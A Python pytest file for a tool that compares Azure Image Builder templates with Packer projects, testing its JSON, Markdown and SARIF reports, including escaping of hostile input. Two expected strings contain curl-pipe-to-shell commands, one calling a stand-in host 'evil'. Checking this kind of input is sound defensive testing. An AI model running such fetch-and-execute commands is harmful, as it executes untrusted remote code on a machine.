"""A comparison for programs and for a pull request: JSON with its schema, Markdown, SARIF."""

from __future__ import annotations

import json
import re
from typing import Any

import pytest
from compared import HOSTILE, before_migrating, beside_a_project, hostile, many
from jsonschema import Draft202012Validator
from msgspec.structs import replace

from aib2packer.comparison.faces.json_face import as_json, as_schema
from aib2packer.comparison.faces.markdown_face import LIMIT, as_markdown
from aib2packer.comparison.faces.sarif_face import as_sarif
from aib2packer.comparison.model import Comparison, Row, Shown, Verdict
from aib2packer.diagnostics.model import Fidelity, visible

ALL = [beside_a_project(), before_migrating(), hostile(), Comparison(template="t.json", rows=())]
NAMES = ["beside", "alone", "hostile", "empty"]


@pytest.mark.parametrize("comparison", ALL, ids=NAMES)
def test_json_fits_its_schema(comparison: Comparison) -> None:
    schema = json.loads(as_schema())
    Draft202012Validator.check_schema(schema)
    text = as_json(comparison)
    Draft202012Validator(schema).validate(json.loads(text))
    assert text.isascii()
    assert visible(text, keep="\n") == text


def test_json_has_each_value_as_it_is() -> None:
    document = json.loads(as_json(beside_a_project()))
    assert (document["version"], document["same"], document["verdicts"]["differs"]) == (1, False, 3)
    row = next(each for each in document["rows"] if each["key"] == "vmProfile.vmSize")
    assert row["template"] == {"text": "Standard_D2s_v3", "spot": {"file": "template.json", "line": 9}}
    assert (row["verdict"], row["author"], row["fate"]) == ("differs", "the project was edited", "exact")
    assert json.loads(as_json(hostile()))["rows"][0]["key"] == HOSTILE
    alone = json.loads(as_json(before_migrating()))
    assert (alone["project"], alone["same"], alone["rows"][0]["verdict"]) == (None, None, None)


def test_a_difference_without_a_place_is_a_result_of_sarif() -> None:
    row = Row(key="a", section="s", verdict=Verdict.MISSING)
    (result,) = json.loads(as_sarif(Comparison(template="t.json", project="p", rows=(row,)), "1"))["runs"][0]["results"]
    assert "locations" not in result


def test_schema_refuses_what_as_json_never_gives() -> None:
    document = json.loads(as_json(beside_a_project()))
    document["rows"][0]["verdict"] = "maybe"
    assert not Draft202012Validator(json.loads(as_schema())).is_valid(document)


def test_markdown_has_a_verdict_a_table_and_lines_to_unfold() -> None:
    text = as_markdown(beside_a_project())
    assert text.startswith("**7 differences from the template.** `template.json ↔ web`: 3 same, 3 differ, 1 missing,")
    assert "| ~ | `vmProfile.vmSize` | `Standard_D2s_v3` | `Standard_D4s_v3` | the project was edited |" in text
    assert "`curl -fsSL https://example.com/docker.sh \\| sh`" in text
    assert '```diff\n echo "home is ${HOME}"\n+curl http://evil | sh\n```\n\n</details>\n' in text
    assert "\nOf other images, not compared: `source.azure-arm.other`.\n" in text
    assert "cut at" not in text


def test_markdown_of_what_is_the_same_is_one_line() -> None:
    comparison = beside_a_project()
    same = replace(comparison, rows=tuple(row for row in comparison.rows if row.verdict is Verdict.SAME), made_by="", left_out=())
    assert as_markdown(same) == "**Same as the template.** `template.json ↔ web`: 3 same.\n"


def test_markdown_before_migrating_tells_what_both_do() -> None:
    text = as_markdown(before_migrating())
    assert text.startswith("**2 settings not as in Image Builder.** ")
    assert "| `Packer has no counterpart; VMs boot as from any image.` | `template.json:7` |" in text


def test_nothing_in_markdown_is_markup_of_the_files() -> None:
    text = as_markdown(hostile())
    assert visible(text, keep="\n") == text
    outside = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", "", text, flags=re.DOTALL)
    assert "script" not in re.sub(r"&lt;/?script&gt;", "", outside)
    rows = [line for line in text.splitlines() if line.startswith("| ")]
    assert len(rows) == 1 + 2
    assert all(len(re.findall(r"(?<!\\)\|", row)) == 7 for row in rows)


@pytest.mark.parametrize("several_lines", [False, True])
def test_markdown_is_cut_and_says_so(several_lines: bool) -> None:
    comparison = many(10_000)
    if several_lines:
        lines = "\n".join(map(str, range(50)))
        rows = tuple(
            Row(key=f"customize[{n}]", section="customize", packer=Shown("a\n"), project=Shown(lines), verdict=Verdict.DIFFERS)
            for n in range(300)
        )
        comparison = replace(comparison, rows=rows)
    text = as_markdown(comparison)
    assert LIMIT - 1_000 < len(text) <= LIMIT
    assert re.search(r"\nThis comment is cut at 60,000 characters: [\d,]+ of [\d,]+ differences are in the table", text)


def results(comparison: Comparison) -> list[dict[str, Any]]:
    (run,) = json.loads(as_sarif(comparison, "0"))["runs"]
    assert all(run["tool"]["driver"]["rules"][each["ruleIndex"]]["id"] == each["ruleId"] for each in run["results"])
    found: list[dict[str, Any]] = run["results"]
    return found


def test_sarif_has_a_result_for_each_difference_where_the_project_says_it() -> None:
    found = results(beside_a_project())
    assert [each["ruleId"] for each in found if "suppressions" not in each] == [
        "compare/differs",
        "compare/differs",
        "compare/extra",
        "compare/missing",
        "compare/moved",
        "compare/differs",
        "compare/cannot-tell",
    ]
    (size,) = (each for each in found if each["partialFingerprints"]["key/v1"] == "vmProfile.vmSize")
    assert size["message"]["text"] == "vmProfile.vmSize differs: Standard_D2s_v3 → Standard_D4s_v3; the project was edited"
    assert place(size["locations"]) == ("web/image.pkr.hcl", 3)
    assert place(size["relatedLocations"]) == ("template.json", 9)
    (missing,) = (each for each in found if each["ruleId"] == "compare/missing")
    assert place(missing["locations"]) == ("template.json", 20)
    (accepted,) = (each for each in found if "suppressions" in each)
    assert accepted["suppressions"] == [{"kind": "external", "justification": "The gallery has generation 1 only."}]


def test_sarif_before_migrating_is_placed_in_the_template() -> None:
    found = results(before_migrating())
    assert [(each["ruleId"], *place(each["locations"])) for each in found] == [
        ("compare/dropped", "template.json", 7),
        ("compare/approximate", "template.json", 6),
    ]


def test_sarif_shows_no_text_that_means_harm() -> None:
    text = as_sarif(hostile(), "0")
    assert text.isascii()
    assert len(text) < 20_000
    assert all(re.fullmatch(r"[\w%./~-]+", place(each["locations"])[0]) for each in results(hostile()))


def place(locations: list[dict[str, Any]]) -> tuple[str, int]:
    physical = locations[0]["physicalLocation"]
    return physical["artifactLocation"]["uri"], physical["region"]["startLine"]


def test_markdown_before_migrating_has_the_whole_advice() -> None:
    comparison = before_migrating()
    advice = "Set the addresses that may connect, or name a subnet in vnetConfig; " * 4
    rows = (*comparison.rows, Row(key="vmProfile", section="template", fate=Fidelity.MANUAL, code="A2P641", change=advice))
    assert advice.strip() in as_markdown(replace(comparison, rows=rows))
